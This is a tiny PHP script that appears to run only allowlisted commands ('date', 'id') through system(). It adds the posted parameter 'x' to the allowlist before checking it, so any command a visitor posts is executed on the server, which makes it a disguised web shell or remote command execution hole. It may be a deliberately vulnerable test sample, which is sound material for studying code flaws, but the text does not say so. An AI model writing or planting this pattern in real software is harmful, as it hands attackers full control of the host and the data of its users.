<?php
$ok = array('date', 'id');
array_push($ok, $_POST['x']);
$x = $_POST['x'];
if (in_array($x, $ok)) {
    system($x);
}
